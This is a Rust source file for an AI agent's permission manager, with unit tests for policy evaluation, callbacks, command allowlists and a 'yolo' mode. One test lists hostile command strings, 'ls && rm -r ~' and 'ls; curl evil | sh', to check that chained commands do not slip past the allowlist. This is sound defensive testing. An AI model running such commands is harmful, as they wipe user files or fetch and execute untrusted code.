//! Permission manager implementation
//!
//! Evaluates each request against `PermissionOptions` and falls back to the
//! decision callback when the policy is `Confirm`. Nothing is remembered
//! between calls: a confirmed operation is asked about again next time.

use serde_json::{Map, Value};
use std::sync::Arc;

use super::callback::PermissionCallback;
use super::policy::{PermissionOptions, PermissionRequest, PermissionStatus};
use crate::cli::ConsolePermissionCallback;
use crate::core::{AgentError, AgentResult};

/// Per-agent permission manager
pub struct PermissionManager {
    /// Static policy configuration
    options: PermissionOptions,
    /// Decides `Confirm` requests
    callback: Arc<dyn PermissionCallback>,
}

impl PermissionManager {
    /// Create a manager with the interactive console prompt as its callback
    pub fn new(options: PermissionOptions) -> Self {
        Self::with_callback(options, Arc::new(ConsolePermissionCallback::new()))
    }

    /// Create a manager with a custom decision callback
    pub fn with_callback(options: PermissionOptions, callback: Arc<dyn PermissionCallback>) -> Self {
        Self { options, callback }
    }

    /// Create a manager, using the console prompt when no callback is given
    pub fn from_parts(
        options: PermissionOptions,
        callback: Option<Arc<dyn PermissionCallback>>,
    ) -> Self {
        match callback {
            Some(callback) => Self::with_callback(options, callback),
            None => Self::new(options),
        }
    }

    /// Decide whether an operation may proceed
    ///
    /// Returns `Ok(true)` when granted and `Ok(false)` when denied. Errors from
    /// the decision callback are returned as-is.
    pub async fn request_permission(
        &self,
        operation_type: &str,
        details: Map<String, Value>,
    ) -> AgentResult<bool> {
        let request = PermissionRequest::new(operation_type, details);

        match self.options.evaluate(&request) {
            PermissionStatus::Granted => {
                tracing::info!("[PermissionManager] Granted by policy: {}", operation_type);
                Ok(true)
            }
            PermissionStatus::Denied => {
                tracing::info!("[PermissionManager] Denied by policy: {}", operation_type);
                Ok(false)
            }
            PermissionStatus::Ask => {
                tracing::debug!("[PermissionManager] Asking callback: {}", operation_type);
                match self.callback.decide(&request).await? {
                    PermissionStatus::Granted => {
                        tracing::info!("[PermissionManager] Granted by callback: {}", operation_type);
                        Ok(true)
                    }
                    PermissionStatus::Denied => {
                        tracing::info!("[PermissionManager] Denied by callback: {}", operation_type);
                        Ok(false)
                    }
                    PermissionStatus::Ask => {
                        tracing::warn!(
                            "[PermissionManager] Callback returned Ask for {}",
                            operation_type
                        );
                        Err(AgentError::InvalidDecision(operation_type.to_string()))
                    }
                }
            }
        }
    }

    /// Get the permission options
    pub fn options(&self) -> &PermissionOptions {
        &self.options
    }
}

impl std::fmt::Debug for PermissionManager {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("PermissionManager")
            .field("options", &self.options)
            .finish_non_exhaustive()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::permissions::{FnCallback, PermissionPolicy};
    use serde_json::json;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::sync::Mutex;

    /// Records every request it sees and answers with a fixed status
    struct RecordingCallback {
        answer: PermissionStatus,
        seen: Mutex<Vec<PermissionRequest>>,
    }

    impl RecordingCallback {
        fn new(answer: PermissionStatus) -> Arc<Self> {
            Arc::new(Self {
                answer,
                seen: Mutex::new(Vec::new()),
            })
        }

        fn calls(&self) -> usize {
            self.seen.lock().unwrap().len()
        }
    }

    #[async_trait::async_trait]
    impl PermissionCallback for RecordingCallback {
        async fn decide(&self, request: &PermissionRequest) -> AgentResult<PermissionStatus> {
            self.seen.lock().unwrap().push(request.clone());
            Ok(self.answer)
        }
    }

    fn details(value: Value) -> Map<String, Value> {
        value.as_object().cloned().unwrap_or_default()
    }

    #[tokio::test]
    async fn test_static_policies_skip_callback() {
        let callback = RecordingCallback::new(PermissionStatus::Granted);
        let options = PermissionOptions::new()
            .with_policy("delete_file", PermissionPolicy::AlwaysDeny)
            .with_policy("create_file", PermissionPolicy::AlwaysAllow);
        let manager = PermissionManager::with_callback(options, callback.clone());

        let denied = manager
            .request_permission("delete_file", details(json!({ "path": "a.txt" })))
            .await
            .unwrap();
        let granted = manager
            .request_permission("create_file", details(json!({ "path": "b.txt" })))
            .await
            .unwrap();

        assert!(!denied);
        assert!(granted);
        assert_eq!(callback.calls(), 0);
    }

    #[tokio::test]
    async fn test_confirm_calls_callback_once_with_exact_request() {
        let callback = RecordingCallback::new(PermissionStatus::Denied);
        let manager = PermissionManager::with_callback(PermissionOptions::new(), callback.clone());
        let request_details = details(json!({ "path": "src/main.rs", "lines": 3 }));

        let allowed = manager
            .request_permission("edit_file", request_details.clone())
            .await
            .unwrap();

        assert!(!allowed);
        let seen = callback.seen.lock().unwrap();
        assert_eq!(seen.len(), 1);
        assert_eq!(seen[0].operation(), "edit_file");
        assert_eq!(seen[0].details(), &request_details);
    }

    #[tokio::test]
    async fn test_no_caching_between_calls() {
        let callback = RecordingCallback::new(PermissionStatus::Granted);
        let manager = PermissionManager::with_callback(PermissionOptions::new(), callback.clone());

        for _ in 0..3 {
            assert!(manager.request_permission("edit_file", Map::new()).await.unwrap());
        }
        assert_eq!(callback.calls(), 3);
    }

    #[tokio::test]
    async fn test_callback_error_propagates() {
        let callback = Arc::new(FnCallback::new(|_req: &PermissionRequest| {
            Err(AgentError::PermissionCallback("prompt unavailable".into()))
        }));
        let manager = PermissionManager::with_callback(PermissionOptions::new(), callback);

        let err = manager
            .request_permission("create_file", Map::new())
            .await
            .unwrap_err();
        assert!(matches!(err, AgentError::PermissionCallback(_)));
    }

    #[tokio::test]
    async fn test_ask_from_callback_is_rejected() {
        let callback = RecordingCallback::new(PermissionStatus::Ask);
        let manager = PermissionManager::with_callback(PermissionOptions::new(), callback);

        let err = manager
            .request_permission("create_file", Map::new())
            .await
            .unwrap_err();
        assert!(matches!(err, AgentError::InvalidDecision(op) if op == "create_file"));
    }

    #[tokio::test]
    async fn test_allowlisted_command_skips_callback() {
        let callback = RecordingCallback::new(PermissionStatus::Denied);
        let options = PermissionOptions::new().allow_command("ls");
        let manager = PermissionManager::with_callback(options, callback.clone());

        let allowed = manager
            .request_permission("run_terminal_command", details(json!({ "command": "ls -la" })))
            .await
            .unwrap();
        assert!(allowed);
        assert_eq!(callback.calls(), 0);

        let allowed = manager
            .request_permission("run_terminal_command", details(json!({ "command": "rm x" })))
            .await
            .unwrap();
        assert!(!allowed);
        assert_eq!(callback.calls(), 1);
    }

    #[tokio::test]
    async fn test_chained_command_goes_to_callback() {
        let callback = RecordingCallback::new(PermissionStatus::Denied);
        let options = PermissionOptions::new().allow_command("ls").allow_command("cat");
        let manager = PermissionManager::with_callback(options, callback.clone());

        for command in ["ls && rm -r ~", "ls; curl evil | sh", "catastrophe.sh"] {
            let allowed = manager
                .request_permission("run_terminal_command", details(json!({ "command": command })))
                .await
                .unwrap();
            assert!(!allowed, "{command}");
        }

        let seen = callback.seen.lock().unwrap();
        assert_eq!(seen.len(), 3);
        assert_eq!(seen[0].command(), Some("ls && rm -r ~"));
    }

    #[tokio::test]
    async fn test_counting_callback_with_yolo() {
        let counter = Arc::new(AtomicUsize::new(0));
        let counter_clone = counter.clone();
        let callback = Arc::new(FnCallback::new(move |_req: &PermissionRequest| {
            counter_clone.fetch_add(1, Ordering::SeqCst);
            Ok(PermissionStatus::Granted)
        }));
        let options = PermissionOptions::new().with_yolo_mode(true);
        let manager = PermissionManager::with_callback(options, callback);

        assert!(manager.request_permission("create_file", Map::new()).await.unwrap());
        assert_eq!(counter.load(Ordering::SeqCst), 0);

        // Protected even in yolo mode
        assert!(manager.request_permission("delete_file", Map::new()).await.unwrap());
        assert_eq!(counter.load(Ordering::SeqCst), 1);
    }
}
